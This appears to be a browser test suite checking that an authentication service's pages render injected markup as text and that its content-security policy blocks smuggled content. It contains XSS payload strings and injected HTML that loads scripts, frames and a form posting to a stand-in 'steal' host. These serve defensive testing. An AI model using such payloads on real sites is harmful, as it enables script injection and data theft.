// Markup in whatever a visitor controls stays text, and were it to get into a page after all, the
// policy in the headers keeps it from running. The first is tried with that policy switched off, the
// second with markup put into the answer on its way, so that neither can hide a hole in the other.

import assert from "node:assert/strict";

import { chromium, cookie, fill, PASSWORD, press, serve, signIn, signUp, test, visit } from "./kit/browser.mjs";

const origin = await serve();

const RUN = "globalThis.injected=true";
const MARKUP = [
  `"'></title></textarea></script><script>${RUN}</script><img src=x onerror=${RUN}><svg onload=${RUN}>`,
  `" autofocus onfocus="${RUN}" x='" autofocus onfocus='${RUN}'`,
];

/** A page in which injected markup would run. */
const unguarded = (t, options) => visit(t, { bypassCSP: true, ...options });

/** Asserts that nothing of what was put in has become part of the page. */
async function isClean(page, what) {
  const found = await page.evaluate(() => {
    const own = "script:not([src]), style, base, iframe, object, embed, svg[onload]";
    const handlers = [...document.querySelectorAll("*")].filter((element) =>
      [...element.attributes].some(({ name, value }) => /^on|^style$/.test(name) || /^\s*javascript:/i.test(value)),
    );
    const elements = [...document.querySelectorAll(own), ...handlers].map((element) => element.outerHTML);
    return { ran: globalThis.injected === true, elements };
  });
  assert.deepEqual(found, { ran: false, elements: [] }, what);
}

test("r066 markup in an address that is refused stays text", async (t) => {
  for (const path of ["/auth/login", "/auth/signup"]) {
    for (const markup of MARKUP) {
      const page = await unguarded(t);
      await page.goto(`${origin}${path}`);
      const email = page.getByLabel("E-mail address");
      await email.evaluate((field) => {
        field.type = "text";
        field.form.noValidate = true;
      });

      await fill(page, markup, "x");
      await page.locator("main form button:not([type=button])").first().click();
      await page.locator(".problem, .summary").waitFor();

      // It has got into the page, so that there is something to be seen.
      assert.equal(await page.getByLabel("E-mail address").inputValue(), markup);
      await isClean(page, `${path} ${markup}`);
    }
  }
});

test("r066 markup in the name of a browser stays text", async (t) => {
  const page = await unguarded(t);
  const email = await signUp(page, origin);
  for (const userAgent of ["<script>globalThis.injected=true<", `<svg\tonload=${RUN}>`, `Firefox/1 Linux ${MARKUP[0]}`]) {
    const other = await unguarded(t, { userAgent });
    await signIn(other, origin, email, "/auth/account");
    await isClean(other, userAgent);
  }

  await page.goto(`${origin}/auth/account`);

  assert((await page.getByRole("main").textContent()).includes("<script>"), "the name is shown");
  await isClean(page, "the account page");
});

test("r066 markup in a username that is refused stays text", async (t) => {
  for (const markup of MARKUP) {
    const page = await unguarded(t);
    await signUp(page, origin, "/auth/account");
    await page.getByText("Change username").click();
    await page.getByLabel("Username").fill(markup);
    await press(page, "Save username");
    await page.locator(".problem").waitFor();

    assert.equal(await page.getByLabel("Username").inputValue(), markup);
    await isClean(page, markup);
  }
});

test("r066 markup in an address of a page stays text", async (t) => {
  const page = await unguarded(t);
  for (const markup of [...MARKUP, `javascript:${RUN}`, `//x.example/${MARKUP[0]}`]) {
    const value = encodeURIComponent(markup);
    for (const path of [
      `/auth/login?return_to=${value}`,
      `/auth/login?return_to=%2F${value}`,
      `/auth/signup?return_to=%2Fx%3F${value}`,
      `/auth/login?error=${value}&${value}=${value}`,
      `/auth/login?lang=${value}&theme=${value}`,
      `/auth/user/delete?return_to=${value}`,
      `/auth/${value}`,
      `/auth/static/${value}`,
      `/auth/dev/pages/${value}/${value}?lang=${value}&theme=${value}`,
      `/${value}?${value}`,
    ]) {
      await page.goto(`${origin}${path}`);
      await isClean(page, path);
    }
  }
});

test("r066 markup in where one goes next stays text", async (t) => {
  for (const markup of MARKUP) {
    const page = await unguarded(t);
    await page.goto(`${origin}/auth/login?return_to=${encodeURIComponent(`/x?${markup.replaceAll(" ", "/")}`)}`);
    await page.getByRole("main").getByRole("link", { name: "Sign up" }).click();
    await fill(page, "ada@x", PASSWORD);
    await press(page, "Sign up");
    await isClean(page, markup);
  }
});

test("r066 markup in a cookie stays text", async (t) => {
  const value = `"'><script>${RUN}</script><img/src=x/onerror=${RUN}>`;
  for (const names of [["flash", "lang", "theme"], ["csrf"], ["access", "refresh"], ["device"]]) {
    const page = await unguarded(t);
    await page.context().addCookies(names.map((name) => ({ name: cookie(origin, name), value, url: origin })));
    for (const path of ["/auth/login", "/auth/account", "/", "/nothing"]) {
      await page.goto(`${origin}${path}`);
      await isClean(page, `${names} ${path}`);
    }
  }
});

test("r066 markup in a header stays text", async (t) => {
  for (const markup of MARKUP) {
    const page = await unguarded(t, {
      extraHTTPHeaders: { "x-request-id": markup, "x-forwarded-host": markup, "accept-language": markup },
    });
    for (const path of ["/auth/login", "/auth/nothing", "/"]) {
      await page.goto(`${origin}${path}`);
      await isClean(page, `${markup} ${path}`);
    }
  }
});

test("r062 what is put into a page on its way does not run", async (t) => {
  const page = await smuggled(t);
  const violated = [];
  await page.exposeFunction("report", (directive) => violated.push(directive));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => globalThis.report(event.effectiveDirective));
  });
  const elsewhere = [];
  page.on("requestfinished", (request) => !request.url().startsWith(origin) && elsewhere.push(request.url()));

  await page.goto(`${origin}/auth/login`);
  assert.equal(await page.getByTestId("smuggled").count(), 1, "the markup is in the page");
  await page.getByTestId("link").click();
  await page.getByTestId("handler").click();
  await page.getByTestId("form").evaluate((form) => form.requestSubmit());
  // As a script that was let in would do it.
  await page.evaluate((run) => {
    const box = document.createElement("div");
    box.innerHTML = `<img src=x onerror=${run}>`;
    document.body.append(box);
    box.setAttribute("style", "color: rgb(1, 2, 3)");
  }, RUN);
  await page.waitForTimeout(200);

  const state = await page.evaluate(() => ({
    ran: globalThis.injected === true,
    base: document.baseURI,
    styled: [...document.querySelectorAll("[style], [data-testid]")].filter(
      (element) => getComputedStyle(element).color === "rgb(1, 2, 3)",
    ).length,
  }));
  assert.deepEqual(state, { ran: false, base: `${origin}/auth/login`, styled: 0 });
  assert.deepEqual(elsewhere, [], "nothing was fetched from elsewhere");
  const expected = [
    "base-uri",
    "form-action",
    "frame-src",
    "img-src",
    "object-src",
    "script-src-attr",
    "script-src-elem",
    "style-src-attr",
    "style-src-elem",
  ];
  assert.deepEqual([...new Set(violated)].sort(), expected, "every one of them was reported");
});

test("without the policy it does run", async (t) => {
  const page = await smuggled(t, { bypassCSP: true });

  await page.goto(`${origin}/auth/login`);

  await page.waitForFunction(() => globalThis.injected);
});

/** A page whose next answer from the sign-in page will hold more than the server wrote. */
async function smuggled(t, options) {
  // Not watched: here the browser is meant to complain.
  const context = await (await chromium()).newContext(options);
  t.after(() => context.close());
  await context.route("https://elsewhere.example/**", (route) =>
    route.fulfill({ body: RUN, contentType: "text/javascript" }),
  );
  await context.route(`${origin}/auth/login`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace("<main", `${SMUGGLED}<main`) });
  });
  return context.newPage();
}

/** Everything a page could be made to load or run by markup alone, and a link and a form to press. */
const SMUGGLED = `
<base href="https://elsewhere.example/">
<script>${RUN}</script>
<script src="https://elsewhere.example/x.js"></script>
<script src="data:text/javascript,${RUN}"></script>
<script type="module">import "https://elsewhere.example/x.mjs"</script>
<style>[data-testid] { color: rgb(1, 2, 3) }</style>
<link rel="stylesheet" href="https://elsewhere.example/x.css">
<link rel="preconnect" href="https://elsewhere.example/">
<img src="x" alt="" onerror="${RUN}">
<img src="https://elsewhere.example/x.png" alt="">
<iframe src="https://elsewhere.example/"></iframe>
<iframe srcdoc="<script>parent.injected=true</script>"></iframe>
<object data="https://elsewhere.example/x"></object>
<embed src="https://elsewhere.example/x">
<svg onload="${RUN}"></svg>
<p data-testid="smuggled" style="color: rgb(1, 2, 3)">smuggled</p>
<button type="button" data-testid="handler" onclick="${RUN}">press</button>
<a data-testid="link" href="javascript:${RUN}">follow</a>
<form data-testid="form" action="https://elsewhere.example/steal" method="post"><input name="x"></form>
`;

test("r062 no page can be put into a frame", async (t) => {
  const context = await (await chromium()).newContext();
  t.after(() => context.close());
  const page = await context.newPage();
  await context.route("http://localhost:1/frame", (route) =>
    route.fulfill({ contentType: "text/html", body: `<iframe src="${origin}/auth/login"></iframe>` }),
  );

  await page.goto("http://localhost:1/frame");
  await page.waitForLoadState();

  const [, frame] = page.frames();
  assert.equal(await frame.getByRole("button").count(), 0);
});
